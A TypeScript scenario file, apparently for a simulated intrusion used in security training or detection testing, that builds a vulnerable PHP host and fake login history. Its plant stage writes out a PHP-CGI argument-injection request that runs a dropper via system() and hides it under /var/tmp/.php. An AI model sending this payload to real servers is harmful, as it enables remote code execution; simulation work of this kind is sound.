// Real nginx and php-fpm; the page plays the old PHP.

import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { vulnerablePhp } from '../../php.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  vulnerablePhp(dress)
  dress.logins({
    days: 12,
    guesses: 40,
    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/var/tmp/.php/php-cache' })
  await stage.scan('203.0.113.44')
  stage.mark('occurrence')
  await stage.http(
    '203.0.113.55',
    '/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    `<?php system('${line}'); ?>`,
  )
}
